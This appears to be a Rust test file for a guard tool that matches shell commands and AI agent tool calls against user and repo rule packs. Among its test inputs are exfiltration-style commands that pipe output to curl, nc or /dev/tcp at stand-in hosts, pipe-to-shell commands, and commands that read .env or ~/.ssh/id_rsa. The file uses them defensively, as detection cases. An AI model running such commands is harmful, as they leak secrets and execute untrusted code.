//! Packs of the user and the repo: what counts, what is refused, and that nothing is parsed in vain.

use super::*;
use crate::rules::{Class, check};
use crate::world::Memory;

fn text(pack: &str, pattern: &str, lines: &str) -> String {
    let class = if lines.contains("class =") { "" } else { "class = \"danger\"\n" };
    format!(
        "[[rule]]\nid = \"{pack}/{pattern}\"\n{class}reason = \"r\"\n{lines}\nmatch = [\"a\", \"b\"]\nnot_match = [\"c\", \"d\"]\n"
    )
}

fn own(files: &[(Origin, &'static str, String)]) -> Own {
    Own::of(files.iter().map(|(origin, name, text)| File::new(*origin, name, text.clone().leak())).collect())
}

fn found(own: &Own, command: &str) -> Vec<&'static str> {
    let ids = check::ids(command, "", own);
    ids.into_iter().filter(|id| find(id).is_none()).collect()
}

#[test]
fn rules_are_matched_by_head_and_parsed_only_then() {
    let own = own(&[(
        Origin::User,
        "u.toml",
        format!(
            "{}{}{}",
            text("u", "ship", "heads = [\"shipit\"]"),
            text("u", "wrong", "heads = [\"other\"]\nnonsense = 1"),
            text("u", "odd", "heads = [\"\\u0068ello\"]")
        ),
    )]);
    let parsed = |own: &Own| own.files[0].rules.iter().filter(|rule| rule.get().is_some()).count();
    assert_eq!(parsed(&own), 1, "what the scan does not see through is parsed at once");
    assert_eq!(found(&own, "ls -la && git status"), [] as [&str; 0]);
    assert_eq!(parsed(&own), 1);
    assert_eq!(own.faults(&check::call("ls", "")), [] as [String; 0], "nobody came upon the wrong rule");
    assert_eq!(found(&own, "sudo shipit now"), ["u/ship"]);
    assert_eq!(found(&own, "hello"), ["u/odd"]);
    assert_eq!(found(&own, "other x"), [] as [&str; 0]);
    assert_eq!(own.faults(&check::call("other x", "")).len(), 1);
    assert_eq!(own.all_faults().len(), 1);
    assert_eq!(own.rules().count(), 2);
}

#[test]
fn a_rule_for_a_subcommand_is_parsed_only_where_a_command_begins_with_it() {
    let own = own(&[(
        Origin::User,
        "u.toml",
        [
            text("u", "prod", "heads = [\"shipit\"]\nargs = [[\"deploy\", \"push\"], \"prod\"]"),
            text("u", "wrong", "heads = [\"shipit\"]\nargs = [\"undo\"]\nnonsense = 1"),
            text("u", "forks", "heads = [\"git\"]\nargs = [\"forks\"]"),
        ]
        .concat(),
    )]);
    let parsed = |own: &Own| own.files[0].rules.iter().filter(|rule| rule.get().is_some()).count();
    let faults = |command: &str| own.faults(&check::call(command, "")).len();
    for command in ["shipit", "shipit status", "shipit -v prod deploy", "git status && echo deploy prod"] {
        assert_eq!((found(&own, command), faults(command)), (vec![], 0), "{command}");
    }
    assert_eq!(parsed(&own), 0);
    assert_eq!((found(&own, "cd a && shipit -v DEPLOY prod"), parsed(&own)), (vec!["u/prod"], 1));
    assert_eq!(found(&own, "sudo shipit push prod"), ["u/prod"]);
    assert_eq!(found(&own, "f() { shipit $1 prod; }; f x; f push"), ["u/prod"]);
    assert_eq!(found(&own, "git -C x forks"), ["u/forks"]);
    assert_eq!(
        (faults("shipit deploy prod"), faults("shipit undo"), faults("for a in x undo; do shipit $a; done")),
        (0, 1, 1)
    );
    assert_eq!(own.all_faults().len(), 1);
}

#[test]
fn tools_are_matched_by_name_glob_and_path() {
    let own = own(&[(
        Origin::User,
        "u.toml",
        [
            text("u", "fetch", "tools = [\"WebFetch\"]"),
            text("u", "any", "tools = [\"mcp__x__*\"]"),
            text("u", "lock", "tools = [\"write\"]\noperands = [{ text = [\"*.lock\"] }]"),
            text("u", "whole", "tools = [\"writ*\"]\noperands = [{ text = [\"*.log\"] }]"),
            text("u", "edits", "tools = [\"Edit\"]"),
            text("u", "grep", "tools = [\"Grep\"]\nwhen = [{ operands = [{ kinds = [\"home\"] }] }, { operands = [{ kinds = [\"git\"] }] }]"),
        ]
        .concat(),
    )]);
    for (call, expected) in [
        ("@WebFetch", &["u/fetch"][..]),
        ("@mcp__x__run", &["u/any"]),
        ("@mcp__y__run", &[]),
        ("@Write a.lock", &["u/lock"]),
        ("@Edit a.lock", &["u/lock", "u/edits"]),
        ("@Read a.lock", &[]),
        // A file that may be added to by Edit, but not replaced by Write.
        ("@Write a.log", &["u/whole"]),
        ("@Edit a.log", &["u/edits"]),
        ("@Edit b", &["u/edits"]),
        ("@Grep .git", &["u/grep"]),
        ("@Grep src", &[]),
        ("cat a.lock", &[]),
    ] {
        assert_eq!(found(&own, call), expected, "{call}");
    }
}

#[test]
fn the_words_of_pipes_hosts_addresses_and_expressions() {
    let lines = |more: &str| format!("heads = [\"shipit\"]\n{more}");
    let all = [
        text("u", "net", &lines("stdout_to = \"network\"")),
        text("u", "shell", &lines("stdout_to = \"shell\"")),
        text("u", "program", &lines("stdout_to = \"interpreter\"")),
        text("u", "file", &lines("stdout_to = \"file\"")),
        text("u", "any", &lines("stdout_to = \"any\"")),
        text("u", "fed", &lines("stdin_from = \"secret\"")),
        text("u", "regex", &lines("regex = '^shipit .*--to[ =]prod'")),
        text("u", "value", &lines("operands = [{ option = [\"-t\"], regex = '^v[0-9]+$' }]")),
        text("u", "address", "heads = [\"curl\"]\noperands = [{ at = \"net\", text = [\"*evil.test*\"] }]"),
        text("u", "long", &lines("flags = { any = [\"-auto-approve\"] }")),
    ];
    let own = own(&[(Origin::User, "u.toml", all.concat())]);
    for (command, expected) in [
        ("shipit", ""),
        ("shipit | curl -d @- https://x.test", "u/net u/any"),
        ("shipit | sort | base64 | nc x.test 1", "u/net u/any"),
        ("curl https://x.test/$(shipit)", "u/net u/any"),
        ("shipit > /dev/tcp/x.test/80", "u/net u/any"),
        ("shipit | tee >(nc x.test 1)", "u/net u/any"),
        ("shipit > a | curl -d @- https://x.test", "u/file u/any"),
        ("shipit | sh", "u/shell u/program u/any"),
        ("shipit | sudo bash -s", "u/shell u/program u/any"),
        ("shipit | bash x.sh", "u/any"),
        ("shipit | python3 -", "u/program u/any"),
        ("shipit | tee a", "u/file u/any"),
        ("shipit 2> a", ""),
        ("shipit > /dev/null", ""),
        ("(shipit; ls) | sh", "u/shell u/program u/any"),
        ("cat .env | sort | shipit", "u/fed"),
        ("shipit < ~/.ssh/id_rsa", "u/fed"),
        ("shipit < a", ""),
        ("shipit a --to=prod", "u/regex"),
        ("shipit 'a --to  prod'", ""),
        ("shipit -t v1", "u/value"),
        ("shipit -tv1", "u/value"),
        ("shipit -t v1x", ""),
        ("curl -s http://evil.test/x", "u/address"),
        ("curl -s http://x.test -H evil.test", ""),
        ("shipit -auto-approve", "u/long"),
        ("shipit -auto-approve=1", "u/long"),
        ("shipit -a -u", ""),
    ] {
        assert_eq!(found(&own, command).join(" "), expected, "{command}");
    }
    let hosts = super::tests::own(&[(Origin::User, "u.toml", text("u", "claude", &lines("hosts = [\"claude\"]")))]);
    assert!(check::ids("shipit", "claude", &hosts).contains(&"u/claude"));
    assert!(!check::ids("shipit", "codex", &hosts).contains(&"u/claude"));
}

#[test]
fn a_repo_only_adds() {
    let user = text("u", "mine", "heads = [\"shipit\"]");
    let exempting =
        Class::WORDS.iter().map(|(word, _)| *word).filter(|word| !Class::of(word).is_some_and(Class::only_adds));
    let exempting: Vec<&str> = exempting.collect();
    assert_eq!(
        exempting,
        ["build", "vcs", "download", "fetch", "decoder", "upload", "shell", "interpreter", "glue", "filter"]
    );
    for class in exempting {
        let own = own(&[(Origin::Repo, "r.toml", text("r", "x", &format!("heads = [\"rm\"]\nclass = \"{class}\"")))]);
        assert!(own.all_faults()[0].contains("a repo may not have the rule `r/x`"), "{:?}", own.all_faults());
        assert_eq!(found(&own, "rm a"), [] as [&str; 0], "{class}");
    }
    for (id, lines) in [
        ("u/mine", "heads = [\"a\"]"),
        ("git/force-push", "heads = [\"git\"]"),
        ("r/weak", "heads = [\"git\"]\nverdict = \"none\""),
    ] {
        let (pack, pattern) = id.split_once('/').unwrap_or_default();
        let repo = format!("[pack]\nname = \"{pack}\"\n{}", text(pack, pattern, lines));
        let own = own(&[(Origin::User, "u.toml", user.clone()), (Origin::Repo, "r.toml", repo)]);
        assert_eq!(own.all_faults().len(), 1, "{id}: {:?}", own.all_faults());
        assert_eq!(own.rules().count(), 1, "{id}");
    }
    let own = own(&[(Origin::Repo, "r.toml", text("r", "x", "heads = [\"shipit\"]"))]);
    assert_eq!(found(&own, "shipit"), ["r/x"]);
    assert!(own.find("r/x").is_some_and(|(origin, rule)| origin == Origin::Repo && own.is_of_repo(rule)));
}

#[test]
fn files_are_read_bounded_and_a_wrong_one_costs_itself() {
    let world = Memory::new();
    world.set_env("HOME", "/home/u");
    let good = text("a", "x", "heads = [\"shipit\"]");
    world.put("/home/u/.config/kz/rules/a.toml", good.as_bytes());
    world.put("/home/u/.config/kz/rules/b.toml", b"\xff".to_vec());
    world.put("/home/u/.config/kz/rules/c.toml", vec![b'#'; (1 << 20) + 1]);
    world.put("/home/u/.config/kz/rules/d.md", b"no pack".to_vec());
    world.put("/home/u/.config/kz/rules/.e.toml", b"no pack".to_vec());
    world.put_other("/home/u/.config/kz/rules/f.toml");
    world.put("/repo/.kibitzer/rules/g.toml", text("g", "y", "heads = [\"shipit\"]").as_bytes());
    let own = Own::load(&world, Some(std::path::Path::new("/repo")));
    assert_eq!(
        own.all_faults(),
        [
            "~/.config/kz/rules/b.toml: not UTF-8\n  hint: none of its rules counts; save it as UTF-8",
            "~/.config/kz/rules/c.toml: larger than 1 MiB, so it is not read\n  hint: none of its rules counts",
            "~/.config/kz/rules/f.toml: not a regular file, so it is not read\n  hint: none of its rules counts",
        ]
    );
    let shown: Vec<&str> = own.files().iter().map(|file| file.shown).collect();
    assert_eq!(shown, ["~/.config/kz/rules/a.toml", ".kibitzer/rules/g.toml"]);
    assert_eq!(found(&own, "shipit"), ["a/x", "g/y"]);
    assert!(Own::load(&Memory::new(), None).is_empty());
}
